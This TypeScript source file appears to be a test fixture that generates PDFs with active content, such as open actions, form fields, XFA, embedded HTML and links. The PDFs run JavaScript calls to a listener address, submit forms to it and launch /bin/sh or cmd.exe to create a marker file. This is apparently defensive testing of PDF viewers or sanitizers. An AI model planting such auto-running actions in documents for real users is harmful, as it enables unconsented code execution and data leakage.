/** PDFs that want to do something: run script, start a program, open an address, send a form, show a dialog. */

const stream = (content: string, entries = ''): string =>
  `<< /Length ${content.length} ${entries}>>\nstream\n${content}\nendstream`

/** A PDF of these objects, numbered from 1: the catalogue, the pages, one page with a line of text, its text, its font, and what follows. */
function active(catalogue: string, page: string, more: readonly string[] = []): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${page} >>`,
    stream('BT /F 18 Tf 20 200 Td (The heron stood at the weir) Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more
  ]
  return Buffer.from(
    `%PDF-1.7\n${objects.map((body, at) => `${at + 1} 0 obj\n${body}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF\n`,
    'latin1'
  )
}

/** What they would reach: an address at a listener, and a file that a program of theirs would make. */
export type Reach = Readonly<{ url: string; file: string }>

/** One for each way, by file name. */
export function activePdfs({ url, file }: Reach): Readonly<Record<string, Buffer>> {
  const script = `app.alert('pwned'); app.launchURL('${url}'); this.submitForm('${url}'); this.getURL('${url}'); SOAP.connect('${url}'); app.mailMsg(true, 'a@example.org'); this.print(true)`
  const js = `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`
  const uri = `<< /S /URI /URI (${url}) >>`
  const shell = `<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c "touch ${file}") >> /Win << /F (cmd.exe) /P (/c echo > ${file}) >> >>`
  const submit = `<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>`
  const link = (action: string): string => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A ${action} >>]`
  const widget = (events: string): string =>
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (value) /Rect [0 0 300 300] /P 3 0 R /AA << ${events} >> /A ${js} >>`
  const embedded = [
    `<< /Type /Filespec /F (letter.html) /UF (letter.html) /EF << /F 7 0 R >> >>`,
    stream(
      `<script src="${url}"></script><p>An attached letter about the bittern.</p>`,
      '/Type /EmbeddedFile /Subtype /text#2Fhtml '
    )
  ]
  return {
    'open action script.pdf': active(`/OpenAction ${js}`, ''),
    'open action address.pdf': active(`/OpenAction ${uri}`, ''),
    'open action program.pdf': active(`/OpenAction ${shell}`, ''),
    'open action form.pdf': active(`/OpenAction ${submit}`, ''),
    'open action other file.pdf': active(`/OpenAction << /S /GoToR /F (${url}) /D [0 /Fit] /NewWindow true >>`, ''),
    'open action chain.pdf': active(`/OpenAction << /S /Named /N /Print /Next [${js} ${uri} ${shell} ${submit}] >>`, ''),
    'named script.pdf': active('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', '', [js]),
    'document events.pdf': active(`/AA << /WC ${js} /WS ${js} /DS ${js} /WP ${js} /DP ${js} >>`, ''),
    'page events.pdf': active('', `/AA << /O ${js} /C ${uri} >>`),
    'link script.pdf': active('', link(js)),
    'link address.pdf': active('', link(uri)),
    'link program.pdf': active('', link(shell)),
    'link form.pdf': active('', link(submit)),
    'fields.pdf': active('/AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>', '/Annots [6 0 R]', [
      widget(`/K ${js} /F ${js} /V ${js} /C ${js} /Fo ${uri} /Bl ${submit} /E ${shell}`)
    ]),
    'xfa.pdf': active('/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true', '', [
      stream(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.5/"><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event><event activity="docReady"><submit target="${url}"/></event></subform></template></xdp:xdp>`
      )
    ]),
    'embedded file.pdf': active('/Names << /EmbeddedFiles << /Names [(letter.html) 6 0 R] >> >>', '', embedded),
    'embedded file opened.pdf': active(
      `/Names << /EmbeddedFiles << /Names [(letter.html) 6 0 R] >> >> /OpenAction << /S /GoToE /T << /R /C /N (letter.html) >> /NewWindow true >>`,
      '',
      embedded
    ),
    'rich media.pdf': active(
      '',
      '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 300 300] /RichMediaSettings << /Activation << /Condition /PO >> >> /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> >>]',
      [`<< /Type /Filespec /FS /URL /F (${url}) >>`]
    ),
    'picture from elsewhere.pdf': active(
      '',
      '/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 300 300] /A << /S /Rendition /OP 4 /JS (app.alert\\(1\\)) /R << /S /MR /C << /S /MCD /D 6 0 R >> >> >> >>]',
      [`<< /Type /Filespec /FS /URL /F (${url}) >>`]
    ),
    'stream from elsewhere.pdf': active(`/Metadata 6 0 R`, '', [
      `<< /Length 0 /F << /FS /URL /F (${url}) >> >>\nstream\n\nendstream`
    ])
  }
}
